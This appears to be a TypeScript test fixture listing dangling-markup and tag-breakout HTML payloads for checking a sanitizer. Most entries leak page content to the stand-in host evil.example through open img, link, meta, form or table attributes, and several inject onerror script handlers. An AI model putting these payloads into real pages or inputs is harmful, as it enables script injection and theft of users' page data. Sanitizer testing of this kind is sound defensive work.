/**
 * Dangling markup: an attribute, a raw-text element or a comment left open, to swallow what follows
 * (the rest of the comment, the widget's own markup, the next comment) into a URL that leaks it or
 * into markup that means something else. Each is followed by more text and, where it matters, by a
 * handler the open construct would hide from a sanitizer that did not parse like the browser.
 */
import { attacks } from './trap.js';

const rest = (run: string) => ` and the rest of the page <img src=x onerror="${run}"> secret`;

export const DANGLING_MARKUP = attacks({
  'dangling-img-src': (run) => `<img src="https://evil.example/collect?page=${rest(run)}`,
  'dangling-a-href': (run) => `<a href="https://evil.example/?leak=${rest(run)}`,
  'dangling-a-title': (run) => `<a href="https://example.com/" title="${rest(run)}`,
  'dangling-single-quote': (run) => `<b title='><img src=x onerror="${run}">`,
  'dangling-base-target': (run) => `<base target="${rest(run)}`,
  'dangling-form': (run) => `<form action="https://evil.example/"><textarea name="page">${rest(run)}`,
  'dangling-meta': (run) => `<meta http-equiv="refresh" content='0;url=https://evil.example/?${rest(run)}`,
  'dangling-link-prefetch': (run) => `<link rel="prefetch" href="https://evil.example/?${rest(run)}`,
  'dangling-comment': (run) => `<!--${rest(run)}`,
  'dangling-style': (run) => `<style>${rest(run)}`,
  'dangling-textarea': (run) => `<textarea>${rest(run)}`,
  'dangling-noscript': (run) => `<noscript>${rest(run)}`,
  'dangling-iframe-name': (run) => `<iframe name="${rest(run)}`,
  'dangling-table-background': (run) => `<table background="https://evil.example/?${rest(run)}`,
  'close-widget-markup': (run) => `</div></b></footer></article></li></ol><img src=x onerror="${run}">`,
  'close-template-slot': (run) => `</template></slot></style><img src=x onerror="${run}">`,
  'close-cdata-comment': (run) => `]]>--><img src=x onerror="${run}">`,
});
